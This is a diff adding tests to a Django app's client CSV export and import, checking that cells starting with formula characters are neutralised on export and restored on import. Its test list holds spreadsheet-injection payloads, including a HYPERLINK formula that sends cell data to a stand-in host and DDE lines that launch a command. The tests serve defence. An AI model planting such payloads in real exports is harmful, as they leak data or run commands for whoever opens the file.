@@ -1,5 +1,6 @@
 """CSV import of clients: good files, bad rows, fatal files, and a 100,000-row file."""
 
+import csv
 import io
 import time
 
@@ -9,7 +10,7 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
 from mailings import selectors, services
-from mailings.imports import OnExisting
+from mailings.imports import OnExisting, neutralise_cell, restore_cell
 from mailings.models import Client, ClientUserObjectPermission
 from mailings.signals import mailings_changed
 from mailings.tests.factories import ClientFactory
@@ -267,3 +268,43 @@ def test_an_upload_stored_in_a_temporary_file_is_streamed_too(user_client, user,
     response = user_client.post(reverse("mailings:client_import"), {"file": upload, "on_existing": "skip"})
     assert response.context["report"].created == 50
     assert selectors.owned_clients(user).count() == 50
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\tTab first",
+    "x\r\n=second line",
+    "'=already quoted",
+    "''+twice",
+    "'plain quote",
+    "a=b, not a formula",
+]
+
+
+def test_export_neutralises_formulas_and_import_restores_them(user_client, user, other_user):
+    for i, text in enumerate(FORMULAS):
+        # The forms strip outer whitespace, so stored values never start with a tab.
+        ClientFactory(owner=user, email=f"c{i}@example.org", full_name=text.strip(), comment=text.strip() + " !")
+    ClientFactory(owner=user, email="-dash@example.org", full_name="", comment="")
+    data = b"".join(user_client.get(reverse("mailings:client_export")).streaming_content)
+
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert ["'-dash@example.org", "", ""] in rows
+
+    report = services.clients_import(owner=other_user, file=io.BytesIO(data))
+    assert report.created == len(FORMULAS) + 1, report.errors
+    exported = sorted(selectors.owned_clients(user).values_list("email", "full_name", "comment"))
+    assert sorted(selectors.owned_clients(other_user).values_list("email", "full_name", "comment")) == exported
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, "\tx", "\rx", "", "'", "''", "=", "plain"])
+def test_neutralise_then_restore_is_the_identity(text):
+    neutral = neutralise_cell(text)
+    assert not neutral.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert restore_cell(neutral) == text
